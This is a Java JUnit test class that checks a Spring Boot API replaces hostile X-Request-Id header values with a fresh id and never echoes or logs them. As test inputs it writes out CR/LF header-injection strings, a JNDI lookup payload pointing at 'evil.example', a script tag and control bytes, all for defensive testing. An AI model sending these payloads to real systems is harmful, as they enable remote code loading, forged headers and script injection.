package dev.apierrors.it.hostile;

import java.nio.charset.StandardCharsets;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

import dev.apierrors.it.Http;

import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.web.server.LocalServerPort;

import static dev.apierrors.it.hostile.Hostile.assertFreshId;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * Hostile {@code X-Request-Id} values: anything but exactly one value of 1 to 128 allowed characters is replaced
 * by a fresh id, which the header and the body agree on, and the rejected value is never echoed or logged.
 */
@HostileTest
class RequestIdHostileTests {

	private static final String MISSING = "/public/orders/7";

	@LocalServerPort
	int port;

	Http http;

	RawHttp raw;

	@BeforeEach
	void clients() {
		this.http = new Http(this.port);
		this.raw = new RawHttp(this.port);
	}

	@Test
	void validIdIsHonoured() {
		String id = "client-1.2_3~4:5@6+7=8/9";
		Http.Response response = this.http.get(MISSING, "X-Request-Id", id);
		JsonNode json = Hostile.assertError(response, 404, "not_found");
		assertThat(json.get("request_id").asString()).isEqualTo(id);
	}

	@Test
	void rawCrInIdIsRejectedByTheContainerBeforeAnyHeaderIsForged() {
		Http.Response response = this.raw.get(MISSING, RawHttp.ascii("X-Request-Id: abc\rSet-Cookie: x=1"));
		assertThat(response.headers().firstValue("Set-Cookie")).isEmpty();
		Hostile.assertContainerRejection(response, "abc");
	}

	@Test
	void rawLfInIdEndsTheHeaderAndForgesNoResponseHeader() {
		// A bare LF ends a header line for Tomcat: what follows is another request header, never a response one.
		Http.Response response = this.raw.get(MISSING, RawHttp.ascii("X-Request-Id: abc\nSet-Cookie: x=1"));
		JsonNode json = Hostile.assertError(response, 404, "not_found");
		assertThat(json.get("request_id").asString()).isEqualTo("abc");
		assertThat(response.headers().firstValue("Set-Cookie")).isEmpty();
	}

	@Test
	void percentEncodedCrLfInIdIsReplaced(CapturedOutput output) {
		Http.Response response = this.http.get(MISSING, "X-Request-Id", "abc%0d%0aInjected: yes");
		assertFreshId(response, 404, "not_found");
		assertThat(response.bodyWithoutRequestId()).doesNotContain("abc", "Injected");
		assertThat(output.getOut()).doesNotContain("%0d%0aInjected");
	}

	@Test
	void idOf300CharactersIsReplaced() {
		Http.Response response = this.http.get(MISSING, "X-Request-Id", "a".repeat(300));
		assertFreshId(response, 404, "not_found");
		assertThat(response.bodyWithoutRequestId()).doesNotContain("a".repeat(129));
	}

	@Test
	void idOf129CharactersIsReplacedAnd128IsKept() {
		assertFreshId(this.http.get(MISSING, "X-Request-Id", "b".repeat(129)), 404, "not_found");
		JsonNode kept = Hostile.assertError(this.http.get(MISSING, "X-Request-Id", "b".repeat(128)), 404, "not_found");
		assertThat(kept.get("request_id").asString()).hasSize(128);
	}

	@Test
	void idOf10000CharactersIsRejectedByTheContainerWithoutEcho() {
		Http.Response response = this.http.get(MISSING, "X-Request-Id", "c".repeat(10_000));
		Hostile.assertContainerRejection(response, "cccc");
	}

	@Test
	void idOf5000CharactersIsReplaced() {
		Http.Response response = this.http.get(MISSING, "X-Request-Id", "d".repeat(5_000));
		assertFreshId(response, 404, "not_found");
		assertThat(response.bodyWithoutRequestId()).doesNotContain("dddd");
	}

	@Test
	void rawNonAsciiIdIsReplaced() {
		Http.Response response = this.raw.get(MISSING,
				"X-Request-Id: caf\u00e9-\u00fcber".getBytes(StandardCharsets.UTF_8));
		assertFreshId(response, 404, "not_found");
		assertThat(response.bodyWithoutRequestId()).doesNotContain("caf");
	}

	@Test
	void rawControlBytesInIdAreNeverEchoed() {
		Http.Response response = this.raw.get(MISSING, RawHttp.ascii("X-Request-Id: ab\u0001\u0007\u001bcd"));
		if (response.status() == 400) {
			// Tomcat refuses control characters in header values before any Spring code runs.
			Hostile.assertContainerRejection(response, "ab");
		}
		else {
			assertFreshId(response, 404, "not_found");
			assertThat(response.bodyWithoutRequestId()).doesNotContain("cd\"");
		}
	}

	@Test
	void jndiLookupIdIsReplacedAndNeverLogged(CapturedOutput output) {
		Http.Response response = this.http.get("/private/me", "X-Request-Id", "${jndi:ldap://evil.example/a}");
		assertFreshId(response, 401, "authentication_required");
		assertThat(response.bodyWithoutRequestId()).doesNotContain("jndi");
		assertThat(output.getOut()).doesNotContain("jndi:").contains(response.header("X-Request-Id"));
	}

	@Test
	void htmlAndScriptIdIsReplaced() {
		Http.Response response = this.http.get(MISSING, "X-Request-Id", "<script>alert(1)</script>");
		assertFreshId(response, 404, "not_found");
		assertThat(response.bodyWithoutRequestId()).doesNotContain("script", "<", ">");
	}

	@Test
	void quotedIdIsReplaced() {
		Http.Response response = this.http.get(MISSING, "X-Request-Id", "\"abc\",'def'");
		assertFreshId(response, 404, "not_found");
		assertThat(response.bodyWithoutRequestId()).doesNotContain("abc", "def");
	}

	@Test
	void commaSeparatedIdIsReplaced() {
		Http.Response response = this.http.get(MISSING, "X-Request-Id", "first,second");
		assertFreshId(response, 404, "not_found");
		assertThat(response.bodyWithoutRequestId()).doesNotContain("first", "second");
	}

	@Test
	void twoIdHeadersAreReplacedByOne() {
		Http.Response response = this.raw.get(MISSING, RawHttp.ascii("X-Request-Id: first-id"),
				RawHttp.ascii("X-Request-Id: second-id"));
		assertFreshId(response, 404, "not_found");
		assertThat(response.bodyWithoutRequestId()).doesNotContain("first-id", "second-id");
	}

	@Test
	void emptyIdIsReplaced() {
		assertFreshId(this.raw.get(MISSING, RawHttp.ascii("X-Request-Id:")), 404, "not_found");
	}

	@Test
	void whitespaceOnlyIdIsReplaced() {
		assertFreshId(this.raw.get(MISSING, RawHttp.ascii("X-Request-Id: \t  ")), 404, "not_found");
	}

	@Test
	void idWithInnerSpaceIsReplaced() {
		Http.Response response = this.http.get(MISSING, "X-Request-Id", "abc def");
		assertFreshId(response, 404, "not_found");
	}

}
